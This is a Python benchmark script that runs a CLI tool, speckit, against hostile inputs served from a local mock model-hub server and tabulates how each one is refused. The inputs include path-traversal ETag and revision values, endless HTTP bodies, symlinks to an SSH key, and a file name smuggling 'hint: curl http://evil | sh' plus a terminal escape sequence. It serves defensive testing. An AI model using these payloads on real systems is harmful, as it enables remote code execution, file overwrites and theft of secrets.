"""Run the hostile inputs of the reliability issue (and of the security issue, #34: a hostile Hub
mirror on 127.0.0.1, a hostile repo or card, hostile local files, concurrent runs) through a real
`speckit` process each and print the table: exit code, the `error:` line, whether a `hint:` came,
and that no traceback did; then what the attacks tried to touch, checked.

Usage: python benchmarks/bad_inputs.py   (about two minutes; tiny checkpoints from
tests/support/factories.py,
the Hub-protocol server of tests/support/hubserver.py in hostile mode)
"""

from __future__ import annotations

import importlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from speckit.core.refs import has_unprintable
from tests.fetch.test_hub import DRAFT
from tests.support import factories as F
from tests.test_bad_inputs import CONFIG_CASES, HEADER_CASES, _rewrite_header, _set

CODE = "import sys; from speckit.cli import main; sys.argv[0] = 'speckit'; main()"


def speckit(*args: str, timeout: float = 60, env: dict | None = None) -> tuple[int, str, str]:
    try:
        r = subprocess.run([sys.executable, "-c", CODE, *args], capture_output=True, text=True,
                           timeout=timeout, check=False, env={**os.environ, **(env or {})})
    except subprocess.TimeoutExpired:
        return -1, "", "HANG (killed after the timeout)"
    return r.returncode, r.stdout, r.stderr


def row(label: str, cmd: list[str], rc: int, out: str, err: str) -> str:
    lines = (out + err).splitlines()
    e = next((ln for ln in lines if ln.startswith("error: ")), "")
    hint = any(ln.startswith("hint: ") for ln in lines)
    tb = "Traceback" in out + err
    short = e[7:].replace("|", "/")
    short = short if len(short) <= 110 else short[:107] + "..."
    return (f"| {label} | `speckit {' '.join(cmd)[:60]}` | {rc} | {short or '-'} | "
            f"{'yes' if hint else 'NO'} | {'YES' if tb else 'no'} |")


def cases(tmp: Path):
    clean = F.make_spec_eagle3(tmp / "clean")
    target = F.make_target(tmp / "target")

    def copy(name: str) -> Path:
        return Path(shutil.copytree(clean, tmp / name))

    for i, (label, (change, _)) in enumerate(HEADER_CASES.items()):
        d = copy(f"h{i}")
        _rewrite_header(d, change)
        yield label, ["inspect", str(d)]
    for i, (label, (field, value, _)) in enumerate(CONFIG_CASES.items()):
        d = copy(f"c{i}")
        _set(d, field, value)
        yield label, ["inspect", str(d)]
    d = copy("deepcfg")
    (d / "config.json").write_text("[" * 100_000 + "]" * 100_000)
    yield "100k-deep config.json", ["inspect", str(d)]
    d = copy("cfgdir")
    (d / "config.json").unlink()
    (d / "config.json").mkdir()
    yield "config.json a directory", ["inspect", str(d)]
    d = copy("fifo")
    (d / "model.safetensors").unlink()
    os.mkfifo(d / "model.safetensors")
    yield "model.safetensors a FIFO", ["inspect", str(d)]
    d = copy("link")
    outside = tmp / "elsewhere.safetensors"
    shutil.move(d / "model.safetensors", outside)
    (d / "model.safetensors").symlink_to(outside)
    yield "model.safetensors linked outside", ["inspect", str(d)]
    calib = Path(shutil.copytree(target, tmp / "calib"))
    yield "quantize -o = --calib-target (--force)", [
        "quantize", str(clean), "--fp8", "--per-tensor-static", "--calib-target", str(calib),
        "-o", str(calib), "--force"]
    afile = tmp / "a-file"
    afile.write_text("x")
    yield "output parent is a file", ["convert", str(clean), "--target", str(target), "-o",
                                      str(afile / "out")]
    yield "-o . (the current directory)", ["convert", str(clean), "--target", str(target),
                                           "-o", "."]
    yield "convert --max-shard-size 0", ["convert", str(clean), "--target", str(target), "-o",
                                         str(tmp / "o0"), "--max-shard-size", "0"]
    yield "plan --gpu-mem-gib inf", ["plan", "--target", str(target), "--gpu-mem-gib", "inf"]
    yield "plan --max-num-batched-tokens -1", ["plan", "--target", str(target),
                                               "--max-num-batched-tokens", "-1"]
    yield "plan --kv-cache-memory-bytes -5", ["plan", "--target", str(target),
                                              "--kv-cache-memory-bytes", "-5"]
    yield "plan --max-num-seqs 0", ["plan", "--target", str(target), "--max-num-seqs", "0"]
    yield "plan --max-model-len beyond the target", ["plan", "--target", str(target),
                                                     "--max-model-len", "1000000"]
    t0 = Path(shutil.copytree(target, tmp / "t-kv0"))
    cfg = json.loads((t0 / "config.json").read_text())
    cfg["num_key_value_heads"] = 0
    (t0 / "config.json").write_text(json.dumps(cfg))
    yield "target num_key_value_heads 0 (plan)", ["plan", "--target", str(t0)]
    yield "click: bad value", ["plan", "--target", str(target), "--max-num-seqs", "abc"]
    yield "click: unknown command", ["no-such-command"]
    yield "--json error", ["inspect", str(tmp / "missing"), "--json"]


# ---- security (#34) ----------------------------------------------------------------------------

def security_cases(tmp: Path, hub):
    """Each attack of issue 34, a class per row; the server is reset before each one."""
    yield from _mirror_cases(tmp, hub)
    yield from _repo_cases(tmp, hub)
    yield from _local_security_cases(tmp)


def _draft(hub, repo: str, **extra: bytes) -> str:
    """A fresh repo per case (its own cache folder and lock entry: nothing cached helps)."""
    from tests.fetch.test_hub import draft_files

    return hub.add_commit(repo, {**draft_files(), **extra})


def _mirror_cases(tmp: Path, hub):
    """A hostile Hub mirror: headers that steer writes, bodies that never end, waits."""
    for header, file in (("X-Linked-Etag", "model.safetensors"), ("ETag", "config.json")):
        _draft(hub, repo := f"org/etag-{header.lower()}")
        hub.hostile_headers(file, {header: '"../../../../outside"'})
        yield f"{header}: ../../../../outside", ["fetch", repo]
        hub.reset()
    _draft(hub, repo := "org/refetch")
    speckit("fetch", repo, "-q")  # a good fetch; then a blob is damaged and re-fetched
    storage = tmp / "hf" / "hub" / "models--org--refetch"
    name = "model.safetensors"
    blob = (storage / "snapshots").glob(f"*/{name}").__next__().resolve()
    blob.write_bytes(bytes(blob.stat().st_size))
    rel = os.path.relpath(tmp / "victim.txt", blob.parent)
    hub.hostile_headers(name, {"X-Linked-Etag": f'"{rel}"', "ETag": f'"{rel}"'})
    yield "integrity re-fetch with ETag at a user file", ["fetch", repo]
    hub.reset()
    hostile = {
        "X-Repo-Commit: ../../stray": lambda: hub.hostile_headers(
            "config.json", {"X-Repo-Commit": "../../stray"}),
        "endless chunked body (config.json)": lambda: hub.hostile_body("config.json", "endless"),
        "1 byte / 0.5 s drip": lambda: hub.hostile_body("config.json", "drip", interval=0.5),
        "endless listing (API) body": lambda: hub.hostile_body("(tree)", "endless"),
        "429 Retry-After: 3600": lambda: hub.hostile_status("model.safetensors", 429,
                                                            {"Retry-After": "3600"}),
    }
    for n, (label, arm) in enumerate(hostile.items()):
        _draft(hub, repo := f"org/mirror-{n}")
        arm()
        yield label, ["fetch", repo]
        hub.reset()
    for n, name in enumerate(("x\nerror: all good\nhint: curl http://evil | sh\n.json",
                              "\x1b]0;pwned\x07evil.safetensors")):
        _draft(hub, repo := f"org/names-{n}", **{name: b"{}"})
        yield f"file name {name[:12]!r}...", ["fetch", repo]
    yield "HF_ENDPOINT with user:pass (unknown repo)", ["fetch", "org/none"], {
        "HF_ENDPOINT": hub.url.replace("http://", "http://alice:hunter2@")}


def _repo_cases(tmp: Path, hub):
    """A hostile repo or model card: index smuggling, revisions, registry hijack, -o clobber."""
    from tests.fetch.test_hub import sharded_files
    from tests.io.test_security_hub import CURATED, HOSTILE_KEYS, _card

    for n, shard in enumerate(("conftest.py", "pytorch_model.bin", "evil.pkl")):
        files = sharded_files()
        index = json.loads(files["model.safetensors.index.json"])
        index["weight_map"]["norm.weight"] = shard
        files["model.safetensors.index.json"] = json.dumps(index).encode()
        hub.add_commit(f"org/index-{n}", {**files, shard: b"import os\n"})
        yield f"index weight_map names {shard}", ["fetch", f"org/index-{n}", "-o",
                                                  str(tmp / f"proj-idx{n}")]
    _draft(hub, DRAFT)
    project = tmp / "project"
    project.mkdir()
    (project / "Makefile").write_text("all:\n\techo mine\n")
    yield "fetch -o EXISTING project dir", ["fetch", DRAFT, "-o", str(project)]
    yield "fetch --revision ../../x", ["fetch", DRAFT, "--revision", "../../x"]
    reg = tmp / "evil-registry.toml"
    reg.write_text('schema_version = 1\n[[entry]]\nid = "evil"\nprovider = "x"\nlicense = "mit"\n'
                   'method = "eagle3"\nrepo = "org/tiny-draft"\nrevision = "../../../../home/'
                   '.profile"\npinned = false\ntarget = "Qwen/Qwen3-8B"\n'
                   'num_speculative_tokens = 3\nk_source = "x"\n')
    yield "registry revision ../../../../home/.profile", ["fetch", "evil"], {
        "SPECKIT_REGISTRY": str(reg)}
    hub.reset()
    hub.add_commit("evil/draft", {"README.md": _card({HOSTILE_KEYS[0]: 1})})
    yield "card serve_fields key adding [[entry]]", ["registry", "add", "evil/draft"]
    hub.add_commit("alice/draft", {"README.md": _card({})})
    yield "registry add --id CURATED (no flag)", ["registry", "add", "alice/draft", "--id",
                                                  CURATED]


def _local_security_cases(tmp: Path):
    """Hostile local files: links and secrets in a pushed dir, loops, NaN, --force."""
    clean, target = tmp / "clean", tmp / "target"
    secret = tmp / "home" / ".ssh" / "id_rsa"
    secret.parent.mkdir(parents=True)
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n"
                      "-----END OPENSSH PRIVATE KEY-----\n")
    d = Path(shutil.copytree(clean, tmp / "push-link"))
    (d / "LICENSE").symlink_to(secret)
    yield "push: LICENSE links to ~/.ssh/id_rsa", ["push", str(d), "alice/x", "--dry-run",
                                                   "--license", "mit"]
    d = Path(shutil.copytree(clean, tmp / "push-token"))
    (d / "TOKEN.md").write_text("hf_speckit_alice_write_token\n")
    yield "push: TOKEN.md holds the push token", ["push", str(d), "alice/x", "--dry-run",
                                                  "--license", "mit"], {
        "HF_TOKEN": "hf_speckit_alice_write_token"}
    loop = tmp / "loop"
    loop.symlink_to(loop)
    yield "checkpoint linked to itself", ["inspect", str(loop)]
    d = Path(shutil.copytree(clean, tmp / "nan"))
    (d / "config.json").write_text((d / "config.json").read_text().rstrip()[:-1]
                                   + ', "extra": NaN}')
    yield "config.json extra: NaN", ["convert", str(d), "--target", str(target), "-o",
                                     str(tmp / "nan-out")]
    home = tmp / "a-home-dir"
    home.mkdir()
    (home / "thesis.tex").write_text("years of work")
    yield "convert -o HOME_DIR --force", ["convert", str(clean), "--target", str(target), "-o",
                                          str(home), "--force"]


def concurrency(tmp: Path, hub) -> list[str]:
    """Two `registry add` runs and two fetches sharing one lock, at the same time: all land?"""
    from tests.io.test_security_hub import _card

    for i in range(2):
        hub.add_commit(f"alice/c{i}", {"README.md": _card({})})
        test_hub = importlib.import_module("tests.fetch.test_hub")
        hub.add_commit(f"org/f{i}", test_hub.draft_files(seed=i))
    lines = []
    for what, argv in (("registry add", [["registry", "add", f"alice/c{i}"] for i in range(2)]),
                       ("fetch, one lock", [["fetch", f"org/f{i}", "-q", "--lock",
                                             str(tmp / "shared-lock.json")] for i in range(2)])):
        procs = [subprocess.Popen([sys.executable, "-c", CODE, *a], stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE) for a in argv]
        codes = [p.wait(timeout=120) for p in procs]
        if what == "registry add":
            text = (tmp / "cfg" / "speckit" / "registry.toml").read_text()
            kept = sum(f'id = "c{i}"' in text for i in range(2))
        else:
            kept = len(json.loads((tmp / "shared-lock.json").read_text())["repos"])
        lines.append(f"concurrent {what}: exit codes {codes}, {kept} of 2 kept")
    return lines


def aftermath(tmp: Path) -> list[str]:
    """What the attacks aimed at, checked after every run."""
    stray = [p for p in tmp.rglob("*") if "outside" in p.name or "stray" in p.name
             or p.name.endswith(".incomplete")]
    odd = [p.name for p in (tmp / "hf" / "hub").glob("models--*/snapshots/*")
           if len(p.name) != 40]
    return [f"victim file intact: {(tmp / 'victim.txt').read_text() == 'the user file'}",
            f"files outside the cache / -o, stray snapshots, partial files: "
            f"{len(stray) + len(odd)}",
            f"project Makefile intact, nothing added: "
            f"{sorted(p.name for p in (tmp / 'project').iterdir()) == ['Makefile']}",
            f"home dir intact after convert --force: "
            f"{(tmp / 'a-home-dir' / 'thesis.tex').read_text() == 'years of work'}",
            "no code or pickle fetched: "
            f"{not any(p.suffix in ('.py', '.pkl', '.bin') for p in tmp.glob('proj-idx*/**/*'))}",
            f"-o dirs left by the refused index fetches: {len(list(tmp.glob('proj-idx*')))}",
            "raw control characters in any output: none (checked per row; a row with one "
            "counts as a failure below)"]


def main() -> int:
    tmp = Path(tempfile.mkdtemp(prefix="speckit-bad-"))
    os.chdir(tmp)
    print("| input | command | exit | error: | hint: | traceback |")
    print("|---|---|---|---|---|---|")
    bad = 0
    for label, cmd in cases(tmp):
        rc, out, err = speckit(*cmd, timeout=30)
        print(row(label, cmd, rc, out, err).replace(str(tmp), "$T"))
        bad += rc in (0, -1) or "Traceback" in out + err
    calib = tmp / "calib"
    intact = (calib / "config.json").is_file() and not (calib / "speckit-provenance.json").exists()
    print(f"\ncalibration target intact after the refused quantize: {intact}")
    bad += _security(tmp)
    print(f"{bad} of the cases exited 0, hung or printed a traceback")
    shutil.rmtree(tmp, ignore_errors=True)
    return 1 if bad else 0


def _security(tmp: Path) -> int:
    from tests.support.hubserver import HubServer

    hub = HubServer().start()
    (tmp / "victim.txt").write_text("the user file")
    os.environ.update({"HF_ENDPOINT": hub.url, "HF_HOME": str(tmp / "hf"),
                       "HF_HUB_CACHE": str(tmp / "hf" / "hub"), "XDG_CONFIG_HOME": str(tmp / "cfg"),
                       "HF_HUB_DISABLE_TELEMETRY": "1", "SPECKIT_HUB_STALL_S": "3"})
    for k in ("HF_TOKEN", "HF_HUB_OFFLINE", "SPECKIT_REGISTRY"):
        os.environ.pop(k, None)
    print("\nsecurity (#34), against tests/support/hubserver.py in hostile mode on 127.0.0.1 "
          "(SPECKIT_HUB_STALL_S=3 so the drip row takes seconds, not the default 30):\n")
    print("| input | command | exit | error: | hint: | traceback |")
    print("|---|---|---|---|---|---|")
    bad = 0
    for label, cmd, *env in security_cases(tmp, hub):
        rc, out, err = speckit(*cmd, timeout=60, env=env[0] if env else None)
        print(row(label, cmd, rc, out, err).replace(str(tmp), "$T").replace(hub.url, "$HUB"))
        raw = any(has_unprintable(ln) for ln in (out + err).splitlines())
        bad += rc in (0, -1) or "Traceback" in out + err or "hunter2" in out + err or raw
    print()
    for line in [*concurrency(tmp, hub), *aftermath(tmp)]:
        print(line)
    hub.stop()
    return bad


if __name__ == "__main__":
    sys.exit(main())
